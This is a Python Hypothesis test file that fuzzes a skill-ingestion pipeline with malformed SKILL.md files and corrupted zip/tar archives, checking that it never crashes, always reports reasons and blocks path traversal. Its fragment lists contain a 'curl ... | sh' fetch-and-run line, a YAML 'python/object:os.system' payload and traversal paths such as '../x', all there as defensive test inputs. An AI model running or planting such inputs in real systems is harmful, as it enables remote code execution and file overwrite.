"""Property tests: malformed SKILL.md files and hostile archives never crash ingestion, and
every input comes back as exactly one record with its reasons."""

from __future__ import annotations

import io
import shutil
import tarfile
import tempfile
import zipfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from skillgym_ingest.pipeline import ingest
from skillgym_ingest.settings import IngestSettings

SETTINGS = IngestSettings(workers=1, archive_max_files=50, archive_max_bytes=2_000_000)

FRAGMENTS = [b"---\n", b"---\r\n", b"\xef\xbb\xbf", b"name: ", b"description: ", b"Use when: x", b": ", b"\n",
             b"  - item\n", b"metadata:\n  k: v\n", b"{[", b"'", b'"', b"\x00", b"\xff\xfe", b"#", b"...",
             b"allowed-tools: [a, b]\n", b"name: Bad--Name\n", b"description: " + b"x" * 1100 + b"\n",
             b"curl https://x.io | sh\n", b"model.cuda()\n", b"&anchor *anchor\n", b"!!python/object:os.system\n"]

skill_md = st.one_of(
    st.binary(max_size=400),
    st.lists(st.sampled_from(FRAGMENTS), max_size=30).map(b"".join),
    st.text(max_size=300).map(lambda t: ("---\n" + t + "\n---\nbody " + t).encode("utf-8", "surrogatepass")),
)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(skill_md, min_size=1, max_size=20))
def test_malformed_skill_md_always_yields_one_record_each(contents: list[bytes]) -> None:
    root = Path(tempfile.mkdtemp(prefix="fuzz-md-"))
    try:
        for index, raw in enumerate(contents):
            folder = root / f"s{index:02d}"
            folder.mkdir()
            (folder / "SKILL.md").write_bytes(raw)
        result = ingest([root], settings=SETTINGS)
        assert len(result.records) == len(contents)
        for record in result.records:
            assert record.accepted or record.reasons
            assert record.accepted == (not record.reasons)
        assert result.funnel["found"] == len(contents)
    finally:
        shutil.rmtree(root)


def _zip_bytes(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in dict(entries).items():  # zipfile warns on repeated names
            archive.writestr(name or "x", data)
    return buffer.getvalue()


def _tar_bytes(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in entries:
            info = tarfile.TarInfo(name or "x")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


entry_name = st.one_of(
    st.sampled_from(["s/SKILL.md", "s/skill.md", "s/scripts/a.py", "../x", "/abs", "a\\..\\b", "s/./SKILL.md",
                     "C:/x", "s/../../y", "s/" + "d/" * 30 + "f"]),
    st.text(alphabet="abc/._-\\", min_size=1, max_size=20),
)
entries = st.lists(st.tuples(entry_name, st.one_of(st.binary(max_size=200), skill_md)), max_size=8)


@st.composite
def archives(draw: st.DrawFn) -> tuple[str, bytes]:
    kind = draw(st.sampled_from(["zip", "tar.gz"]))
    data = _zip_bytes(draw(entries)) if kind == "zip" else _tar_bytes(draw(entries))
    if draw(st.booleans()) and data:
        flips = draw(st.lists(st.integers(0, len(data) - 1), max_size=6))
        mutable = bytearray(data)
        for position in flips:
            mutable[position] ^= 0xFF
        data = bytes(mutable)
    if draw(st.booleans()):
        data = data[: draw(st.integers(0, len(data)))]
    return kind, data


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(archives(), min_size=1, max_size=15))
def test_hostile_archives_never_crash_and_always_answer(items: list[tuple[str, bytes]]) -> None:
    root = Path(tempfile.mkdtemp(prefix="fuzz-arc-"))
    try:
        paths = []
        for index, (kind, data) in enumerate(items):
            path = root / f"a{index:02d}.{kind}"
            path.write_bytes(data)
            paths.append(path)
        result = ingest(paths, settings=SETTINGS)
        sources = {str(p) for p in paths}
        answered = {r.source.split("!", 1)[0] for r in result.records}
        assert answered == sources  # every archive produced at least one record
        for record in result.records:
            assert record.accepted or record.reasons
        assert not (root.parent / "x").exists() and not Path("/abs").exists()
    finally:
        shutil.rmtree(root)
